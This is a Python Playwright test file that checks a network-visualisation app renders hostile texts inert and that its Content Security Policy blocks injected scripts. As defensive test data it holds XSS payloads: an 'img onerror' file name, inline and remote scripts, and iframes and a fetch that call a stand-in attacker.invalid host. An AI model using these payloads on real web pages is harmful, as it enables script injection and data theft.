"""Hostile texts in every view of the page: none of them runs, none of them fetches anything."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Dialog, Page, expect

from netviz.ui.state import VIEWS
from tests.hostile_bench import victims
from tests.hostile_texts import HOSTILE_TEXTS
from tests.promises import Record

if TYPE_CHECKING:
    from tests.browser.conftest import Visit

pytestmark = pytest.mark.browser

FOREIGN = (
    "img[src=x], img[src*=attacker], a[href*=attacker], a[href^=javascript], link[href*=attacker], base, object, "
    "meta[http-equiv=refresh], iframe[srcdoc], iframe[src*=attacker], [onerror], [onload], [onbegin], [ontoggle], "
    "[onfocus], [onmouseover]"
)
AN_ARROW = """(root) => {
    const { network, scene, stage } = root.__netviz;
    const { samples } = scene.edges.at(-1).shape;
    const [x, y] = samples[Math.floor(samples.length / 2)];
    const frame = stage.getBoundingClientRect(), at = network.canvasToDOM({ x, y });
    return { x: frame.left + at.x, y: frame.top + at.y };
}"""
OPEN_A_FOLD = """() => {
    const closed = [...document.querySelectorAll("[data-testid=stMain] details:not([open])")];
    const fold = closed.find((one) => one.dataset.tried !== one.querySelector("summary").textContent);
    if (!fold) return false;
    fold.dataset.tried = fold.querySelector("summary").textContent;
    fold.querySelector("summary").click();
    return true;
}"""
INJECT = """() => {
    globalThis.violations = 0;
    document.addEventListener("securitypolicyviolation", () => { globalThis.violations += 1; });
    const script = document.createElement("script");
    script.textContent = "globalThis.hacked = 1";
    const remote = document.createElement("script");
    remote.src = "http://attacker.invalid/x.js";
    document.body.append(script, remote);
    const holder = document.createElement("div");
    holder.innerHTML = "<img src=x onerror='globalThis.hacked = 1'><img src=http://attacker.invalid/x>"
        + "<iframe src=http://attacker.invalid/x></iframe>";
    document.body.append(holder);
    fetch("http://attacker.invalid/x").catch(() => 0);
}"""
ROOT = Path(__file__).resolve().parents[2]
BROKEN = re.compile("Something went wrong|could not be answered")
SETTLED = '[data-test-script-state="notRunning"]'


def settled(page: Page) -> None:
    page.locator(SETTLED).wait_for()
    assert page.evaluate("() => globalThis.hacked") is None
    assert page.locator(FOREIGN).count() == 0


def _ask(page: Page) -> None:
    """Ask why there is an arrow, and look at what the pointer shows of a card."""
    root = page.locator(".netviz")
    place = root.evaluate(AN_ARROW)
    page.mouse.click(place["x"], place["y"])
    expect(page.get_by_test_id("stMain").get_by_text("ingress of", exact=False).first).to_be_visible()
    settled(page)


def _unfold(page: Page) -> None:
    """Open every fold of the page, those that are within another, too.

    Look and click are one step, and each fold is tried once: the page draws itself between two steps, and a fold
    that was closed at the look may be open at the click.
    """
    for _ in range(200):
        if not page.evaluate(OPEN_A_FOLD):
            break
        settled(page)
    expect(page.get_by_test_id("stMain").locator("details:not([open])")).to_have_count(0)


def _compare(page: Page) -> None:
    """Compare with the same manifests but one."""
    page.get_by_role("radio", name="Compare", exact=True).click()
    settled(page)
    before = victims().replace(b"app: victim-04", b"app: victim-05")
    # The page before it has a place for files, too.
    place = page.get_by_test_id("stFileUploader").filter(has_text="Manifests before the change")
    place.locator("input[type=file]").set_input_files(
        {"name": "<img src=x onerror=alert(1)>.yaml", "mimeType": "text/yaml", "buffer": before}
    )
    page.get_by_role("button", name="Compare with 1 file").click()
    expect(page.get_by_text("Before: <img src=x onerror=alert(1)>.yaml")).to_be_visible()
    settled(page)
    expect(page.get_by_text(BROKEN)).to_have_count(0)


def _note(dialogs: list[str], dialog: Dialog) -> None:
    dialogs.append(dialog.message)
    dialog.dismiss()


def test_hostile_texts_are_only_text_in_every_view(
    serve: Callable[..., str], visit: Callable[..., Visit], tmp_path: Path, promise: Record
) -> None:
    assert len(HOSTILE_TEXTS) >= 30
    manifest = tmp_path / "all.yaml"
    manifest.write_bytes(victims())
    page = visit(serve(Path(__file__).with_name("hostile_bench_page.py"), str(manifest))).page
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: _note(dialogs, dialog))
    page.locator(".netviz").wait_for()
    _ask(page)
    for view in VIEWS:
        page.get_by_role("radio", name=view.capitalize(), exact=True).click()
        page.wait_for_function("name => (new URLSearchParams(location.search).get('view') ?? 'map') === name", arg=view)
        settled(page)
        _unfold(page)
        expect(page.get_by_text(BROKEN)).to_have_count(0)
    _compare(page)
    promise(9, f"{len(HOSTILE_TEXTS)} texts in {len(VIEWS)} views: {len(dialogs)} ran", "0")
    assert dialogs == []


@pytest.mark.promise(9)
@pytest.mark.promise(10)
def test_what_got_in_all_the_same_would_not_run_nor_fetch(
    serve: Callable[..., str], visit: Callable[..., Visit]
) -> None:
    seen = visit(serve(ROOT / "app.py", str(ROOT / "sample_manifests" / "policytypes-pitfall")))
    page = seen.page
    page.locator(".netviz").wait_for()
    blocked: list[str] = []
    page.on("requestfailed", lambda request: blocked.append(request.url) if request.failure == "csp" else None)
    page.evaluate(INJECT)
    page.wait_for_function("() => globalThis.violations >= 5")
    assert page.evaluate("() => globalThis.hacked") is None
    assert all(url in blocked for url in seen.left_the_machine())
    refused = [error for error in seen.errors if "Content Security Policy" in error]
    assert len(refused) >= 5
    seen.errors[:] = [error for error in seen.errors if error not in refused]
    seen.requests[:] = [url for url in seen.requests if url not in blocked]
